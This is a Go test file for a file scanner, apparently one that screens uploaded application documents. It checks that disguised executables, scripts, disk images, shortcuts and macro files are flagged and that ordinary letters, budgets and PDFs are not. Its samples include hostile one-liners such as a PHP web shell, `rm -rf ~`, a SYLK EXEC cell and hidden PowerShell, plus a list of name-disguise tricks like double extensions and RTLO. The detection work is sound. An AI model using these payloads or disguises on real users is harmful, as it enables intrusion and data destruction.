package content

import (
	"bytes"
	"encoding/binary"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// at puts bytes into a file of zeros.
func at(size int, places map[int]string) []byte {
	b := make([]byte, size)
	for off, s := range places {
		copy(b[off:], s)
	}
	return b
}

// wide writes a text as Windows does, in units of 16 bits.
func wide(s string) []byte {
	b := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// installer is a compound file with the class of Windows Installer in its root.
func installer(kind byte) []byte {
	b := cfbOf(cfbStream{name: "䡀㼿䕷䑬㭪䗤䠤"})
	copy(b[1024+80:], string([]byte{kind})+"\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	return b
}

// TestDangerous: what Windows or macOS would run, install, mount or obey is told as
// such: by its bytes under any name where they show it, else by its name.
func TestDangerous(t *testing.T) {
	program := at(700, map[int]string{0: "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", 60: "\x80\x00\x00\x00", 128: "PE\x00\x00"})
	iso := at(0x9000, map[int]string{0x8000: "\x01CD001\x01"})
	boot := map[int]string{3: "NTFS    ", 510: "\x55\xaa"}
	samples := []struct {
		rule string
		data []byte
		name string
		code string
	}{
		// By their bytes, under names that say another thing.
		{"program", program, "RIB.pdf", DangerExecutable},
		{"program without extension", program, "Statuts", DangerExecutable},
		{"screen saver", program, "photo.scr", DangerExecutable},
		{"library for Excel", program, "Budget.xlsx", DangerExecutable},
		{"Linux program", append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00"), make([]byte, 90)...), "Kbis.pdf", DangerExecutable},
		{"macOS program", append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"), make([]byte, 90)...), "Kbis.pdf", DangerExecutable},
		{"Java archive", zipOf(t, entry{name: "META-INF/MANIFEST.MF", data: []byte("Manifest-Version: 1.0\nMain-Class: A\n")}, entry{name: "A.class", data: []byte("\xca\xfe\xba\xbe")}), "dossier.zip", DangerExecutable},
		{"Android package", zipOf(t, entry{name: "AndroidManifest.xml", data: []byte("\x03\x00")}, entry{name: "classes.dex", data: []byte("dex\n")}), "dossier.zip", DangerExecutable},
		{"Windows app", zipOf(t, entry{name: "AppxManifest.xml", data: []byte("<Package/>")}, entry{name: "a.exe", data: program}), "dossier.docx", DangerExecutable},
		{"installer", installer(0x84), "Dossier.doc", DangerExecutable},
		{"patch of an installer", installer(0x86), "Dossier.xls", DangerExecutable},
		{"transform of an installer", installer(0x82), "Dossier.ppt", DangerExecutable},
		{"compiled help", []byte("ITSF\x03\x00\x00\x00\x60\x00\x00\x00\x01\x00\x00\x00"), "notice.pdf", DangerExecutable},
		{"Debian package", []byte("!<arch>\ndebian-binary   1410122664  0     0     100644  4         `\n2.0\n"), "dossier.pdf", DangerExecutable},
		{"RPM package", append([]byte("\xed\xab\xee\xdb\x03\x00"), make([]byte, 90)...), "dossier.pdf", DangerExecutable},
		{"browser extension", append([]byte("Cr24\x03\x00\x00\x00"), make([]byte, 60)...), "dossier.pdf", DangerExecutable},
		{"registry file", wide("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n"), "texte.txt", DangerScript},
		{"registry file of old", []byte("REGEDIT4\r\n\r\n[HKEY_CURRENT_USER]\r\n"), "texte.txt", DangerScript},
		{"setup information", []byte("[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\n"), "lisez-moi.txt", DangerScript},
		{"command of the Explorer", []byte("[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.1\\a.ico\r\n"), "lisez-moi.txt", DangerScript},
		{"web query", []byte("WEB\r\n1\r\nhttp://203.0.113.1/a\r\n"), "Budget.csv", DangerScript},
		{"SYLK", []byte("ID;PWXL;N;E\r\nP;PGeneral\r\nC;X1;Y1;K0;EEXEC(\"cmd\")\r\nE\r\n"), "Budget.csv", DangerScript},
		{"batch", []byte("@echo off\r\npowershell -w hidden\r\n"), "note.txt", DangerScript},
		{"HTML application", []byte("<html><head><HTA:APPLICATION id=a></head><script language=VBScript>x</script></html>"), "lettre.html", DangerScript},
		{"scriptlet", []byte("<?XML version=\"1.0\"?>\n<scriptlet><registration/><script>x</script></scriptlet>"), "lettre.xml", DangerScript},
		{"Windows script", []byte("<job id=\"a\"><script language=\"JScript\">x</script></job>"), "lettre.xml", DangerScript},
		{"library of the Explorer", []byte("<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"/>"), "pieces.xml", DangerScript},
		{"search connector", []byte("<?xml version=\"1.0\"?><searchConnectorDescription/>"), "pieces.xml", DangerScript},
		{"saved search", []byte("<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"/>"), "pieces.xml", DangerScript},
		{"shortcut to settings", []byte("<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"), "pieces.xml", DangerScript},
		{"management console", []byte("<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"/>"), "pieces.xml", DangerScript},
		{"Java Web Start", []byte("<?xml version=\"1.0\"?><jnlp spec=\"1.0+\"/>"), "pieces.xml", DangerScript},
		{"installed from the web", []byte("<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"/>"), "pieces.xml", DangerScript},
		{"remote desktop", wide("screen mode id:i:2\r\nfull address:s:203.0.113.1\r\n"), "acces.txt", DangerScript},
		{"shell script", []byte("#!/usr/bin/env bash\nrm -rf ~\n"), "RIB", DangerScript},
		{"PHP", []byte("<?php system($_GET['c']);"), "image.jpg", DangerScript},
		{"Windows shortcut", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46\x9b\x00"), "RIB.pdf", DangerShortcut},
		{"internet shortcut", []byte("[InternetShortcut]\r\nURL=file://203.0.113.1/a/b.exe\r\n"), "RIB.txt", DangerShortcut},
		{"desktop entry", []byte("[Desktop Entry]\nType=Application\nExec=sh -c x\n"), "RIB.txt", DangerShortcut},
		{"ISO 9660", iso, "Dossier.pdf", DangerDiskImage},
		{"UDF", at(0x9000, map[int]string{0x8000: "\x00BEA01\x01"}), "Dossier.img", DangerDiskImage},
		{"VHD", at(2048, map[int]string{0: "conectix\x00\x00\x00\x02"}), "Dossier.pdf", DangerDiskImage},
		{"VHD of fixed size", at(4096, map[int]string{3584: "conectix\x00\x00\x00\x02"}), "Dossier.docx", DangerDiskImage},
		{"VHDX", at(2048, map[int]string{0: "vhdxfile"}), "Dossier", DangerDiskImage},
		{"DMG", at(4096, map[int]string{0: "x\xda", 3584: "koly\x00\x00\x00\x04\x00\x00\x02\x00"}), "Dossier.pdf", DangerDiskImage},
		{"VMDK", at(2048, map[int]string{0: "KDMV\x01"}), "Dossier.bin", DangerDiskImage},
		{"VDI", at(2048, map[int]string{0: "<<< Oracle VM VirtualBox Disk Image >>>\n"}), "Dossier.txt", DangerDiskImage},
		{"QCOW2", at(2048, map[int]string{0: "QFI\xfb\x00\x00\x00\x03"}), "Dossier.pdf", DangerDiskImage},
		{"WIM", at(2048, map[int]string{0: "MSWIM\x00\x00\x00"}), "Dossier.pdf", DangerDiskImage},
		{"volume of NTFS", at(4096, boot), "Dossier.pdf", DangerDiskImage},
		{"volume of FAT", at(4096, map[int]string{0: "\xeb\x3c\x90MSDOS5.0", 54: "FAT16   ", 510: "\x55\xaa"}), "Dossier.dat", DangerDiskImage},
		{"disk with a table of partitions", at(4096, map[int]string{446: "\x80\x01\x01\x00\x07\xfe\xff\xff\x3f\x00\x00\x00\x00\x20\x00\x00", 510: "\x55\xaa"}), "Dossier.bin", DangerDiskImage},
		{"disk image that is a PDF", at(0x9000, map[int]string{0: "%PDF-1.4\n", 0x8000: "\x01CD001\x01", 0x8f00: "startxref\n9\n%%EOF\n"}), "Dossier.pdf", DangerPolyglot},
		{"cabinet", append([]byte("MSCF\x00\x00\x00\x00"), make([]byte, 60)...), "Dossier.pdf", DangerContainer},
		{"macOS package", append([]byte("xar!\x00\x1c\x00\x01"), make([]byte, 60)...), "Dossier.pdf", DangerContainer},
		{"OneNote", append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), make([]byte, 200)...), "Dossier.pdf", DangerContainer},
		{"Access", append([]byte("\x00\x01\x00\x00Standard ACE DB\x00"), make([]byte, 200)...), "Budget.xlsx", DangerMacros},
		{"macros under a name without", zipOf(t, entry{name: "[Content_Types].xml", data: []byte("<Types/>")}, entry{name: "xl/workbook.xml", data: []byte("<workbook><sheets><sheet name=\"a\"/></sheets></workbook>")}, entry{name: "xl/vbaProject.bin", data: []byte("x")}), "Budget.xlsx", DangerMacros},
		{"in an archive", zipOf(t, entry{name: "Dossier/RIB.pdf", data: program}), "Dossier.zip", DangerExecutable},
		{"disk image in an archive", zipOf(t, entry{name: "Dossier/annexes.pdf", data: iso}), "Dossier.zip", DangerDiskImage},
		{"script in an archive in an archive", zipOf(t, entry{name: "a.zip", data: zipOf(t, entry{name: "lettre.wsf", data: []byte("x")})}), "Dossier.zip", DangerScript},
	}
	// By their names, which hide it: their bytes show nothing.
	for code, names := range map[string]string{
		DangerExecutable: "RIB.pdf.exe,RIB.PDF   .com,photo.jpg.pif,a.cpl,a.xll,a.appref-ms,a.gadget,a.msixbundle,a.chm .,statuts.jar,setup.msu,a.appinstaller",
		DangerScript:     "RIB.pdf.js,lettre.doc.vbs,a.jse,a.vbe,a.ps1,a.wsh,a.wsc,a.hta,a.reg,a.scf,a.settingcontent-ms,a.library-ms,a.search-ms,a.slk,a.iqy,a.msc,a.rdp,a.theme,a.mobileconfig,a.CMD,a.psc1,a.sct",
		DangerShortcut:   "RIB.pdf.lnk,Dossier.url,a.website,a.desktop,a.inetloc,a.fileloc",
		DangerDiskImage:  "Dossier.iso,Dossier.pdf.img,a.vhd,a.vhdx,a.dmg,a.vmdk,a.wim,a.sparseimage",
		DangerContainer:  "a.cab,a.one,a.diagcab,a.onepkg",
		DangerMacros:     "a.xla,a.mdb,a.accde",
		DangerBidiName:   "RIB\u202efdp.exe,lettre\u2066txt.js",
		DangerHTML:       "Dossier.mht,RIB.pdf.shtml",
	} {
		for name := range strings.SplitSeq(names, ",") {
			samples = append(samples, struct {
				rule string
				data []byte
				name string
				code string
			}{"by its name", []byte{1, 2, 3, 0xfe}, name, code})
		}
	}
	told := 0
	for _, tt := range samples {
		f := mustLook(t, tt.data, tt.name, "application/pdf")
		codes := f.Dangerous
		for _, m := range f.Members {
			codes = append(codes, m.Dangerous...)
			if m.Text != "" {
				t.Errorf("%s: %s was read", tt.rule, m.Path)
			}
		}
		if !slices.Contains(codes, tt.code) || f.Text != "" && tt.code != DangerMacros { // reading a document runs nothing in it
			t.Errorf("%s, %s: %s, dangerous %q, unreadable %q, text %q; want %q", tt.rule, tt.name, f.Type, codes, f.Unreadable, f.Text, tt.code)
			continue
		}
		told++
	}
	t.Logf("%d of %d told", told, len(samples))
}

// TestHarmless: what candidates send every day is not taken for dangerous, nor for
// unreadable.
func TestHarmless(t *testing.T) {
	text := func(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }
	samples := map[string][]byte{
		"courriel.eml":                 []byte("From: a@asso.example\r\nTo: b@asso.example\r\nSubject: Soutien\r\nDate: Mon, 1 Oct 2018 10:00:00 +0200\r\n\r\nBonjour,\r\n"),
		"lettre.txt":                   text("Madame, Monsieur,\n\nNous soutenons le projet.\n"),
		"windows.txt":                  text("Windows est installé dans nos trois espaces.\n[Version] de travail\n"),
		"version.txt":                  text("[Version 2]\nBudget revu, signature du président à venir.\n"),
		"shell.txt":                    text("[Shell] partenaire pressenti\n"),
		"site.txt":                     text("WEB\nNotre site présente le projet, ses partenaires et ses actions : http://hub.example, avec la liste des lieux et leurs horaires pour chaque commune du territoire.\n"),
		"unicode.txt":                  wide("Procès-verbal de l’assemblée générale\r\n"),
		"Budget.csv":                   text("Poste;Montant\nSalaires;120000\nLocaux;30000\n"),
		"Budget.tsv":                   text("Poste\tMontant\nSalaires\t120000\n"),
		"donnees.json":                 []byte(`{"territoire": "Occitanie", "montant": 450000}`),
		"donnees.xml":                  []byte("<?xml version=\"1.0\"?><budget><poste>Salaires</poste></budget>"),
		"composants.xml":               []byte("<?xml version=\"1.0\"?><components><component name=\"a\"/></components>"),
		"lieux.geojson":                []byte(`{"type":"FeatureCollection","features":[]}`),
		"carte.kml":                    []byte(`<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"></kml>`),
		"reunion.ics":                  text("BEGIN:VCALENDAR\nVERSION:2.0\nEND:VCALENDAR\n"),
		"contact.vcf":                  text("BEGIN:VCARD\nVERSION:3.0\nFN:A\nEND:VCARD\n"),
		"lettre.rtf":                   []byte(`{\rtf1\ansi Nous soutenons le projet.}`),
		"notes.md":                     []byte("# Projet\n\n- accompagner\n- mutualiser\n"),
		"logo.svg":                     []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>`),
		"logo.gif":                     []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"),
		"logo.png":                     pictureOf(t, 40, 30, "png"),
		"PJ4_RIB-2018.jpg":             sheet(t, true),
		"scan0001.pdf":                 scanned(t, true),
		"RIB.pdf":                      pdfPage("", says("Bonjour")),
		"AAP HUBS - Réponse X (2).pdf": pdfPage("/Lang(fr)", says("Dossier")),
		"Kbis+RIB+Statuts.PDF":         pdfPage("/OpenAction[3 0 R/Fit]", says("x")),
		"v1.0.final.pdf":               pdfPage("", says("x")),
		"www.hub-occitanie.fr.pdf":     pdfPage("", says("x")),
		"contrat.iso9001.pdf":          pdfPage("", says("x")),
		"after white space.pdf":        append([]byte("\r\n"), pdfPage("", says("x"))...),
		"30 pages.pdf":                 pagesPDF(30, says("x"), "/Font<</F 3 0 R>>", "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"),
		"DOSSIER COMPLET.zip":          zipOf(t, entry{name: "Dossier/RIB.pdf", data: pdfPage("", says("x"))}, entry{name: "Dossier/lettre.txt", data: []byte("Bonjour")}),
		"archive d'archive.zip":        zipOf(t, entry{name: "a.zip", data: zipOf(t, entry{name: "lettre.txt", data: []byte("Bonjour")})}),
		"Lettre.docx":                  zipOf(t, entry{name: "[Content_Types].xml", data: []byte("<Types/>")}, entry{name: "word/document.xml", data: []byte("<w:document><w:body><w:p><w:r><w:t>Statuts</w:t></w:r></w:p></w:body></w:document>")}),
		"Lettre.odt":                   zipOf(t, entry{name: "mimetype", data: []byte(odf + "text"), stored: true}, entry{name: "content.xml", data: []byte("<office:body><text:p>Statuts</text:p></office:body>")}),
		"Lettre.doc":                   cfbOf(cfbStream{name: "WordDocument"}),
		"Budget.xls":                   cfbOf(cfbStream{name: "Workbook"}),
		"film.mp4":                     at(2000, map[int]string{0: "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom", 24: "\x00\x00\x07\xb8mdat"}),
		"signature.p7s":                []byte("-----BEGIN PKCS7-----\nMIIB\n-----END PKCS7-----\n"),
		"donnees":                      noise(5000),
		"donnees.dat":                  append(noise(508), 0, 0, 0x55, 0xaa, 1, 2, 3, 4), // ends a sector as a disk does
	}
	for _, folder := range []string{packFolder, "testdata/libreoffice/"} {
		for name, b := range filesIn(t, folder) {
			samples[folder+name] = b
		}
	}
	told := 0
	for name, b := range samples {
		f := mustLook(t, b, name, "")
		if len(f.Dangerous) > 0 || f.Unreadable != "" || slices.ContainsFunc(f.Members, func(m Member) bool { return len(m.Dangerous) > 0 || m.Unreadable != "" }) {
			t.Errorf("%s: %s, dangerous %q, unreadable %q %q", name, f.Type, f.Dangerous, f.Unreadable, f.Warnings)
			continue
		}
		told++
	}
	t.Logf("%d of %d taken as they are", told, len(samples))
}

// A boot sector alone is no disk: its table must hold partitions.
func TestDiskImageNeedsMore(t *testing.T) {
	for rule, b := range map[string][]byte{
		"mark of a sector alone": at(4096, map[int]string{510: "\x55\xaa"}),
		"table of noise":         append(bytes.Repeat([]byte{0x41}, 510), 0x55, 0xaa),
		"koly of another length": at(4096, map[int]string{3584: "koly\x00\x00\x00\x04\x00\x00\x01\x00"}),
		"shorter than a sector":  []byte("CD001"),
	} {
		if kind := diskImage(input{r: bytes.NewReader(b), size: int64(len(b)), fail: new(error)}); kind != "" {
			t.Errorf("%s is taken for %s", rule, kind)
		}
	}
}

// filesIn gives the files of a folder by their names, but for what describes them.
func filesIn(t *testing.T, folder string) map[string][]byte {
	t.Helper()
	entries, err := os.ReadDir(folder)
	if err != nil {
		t.Fatal(err)
	}
	files := make(map[string][]byte)
	for _, e := range entries {
		if !e.IsDir() && e.Name() != "README.md" {
			files[e.Name()] = fileOf(t, folder+e.Name())
		}
	}
	return files
}
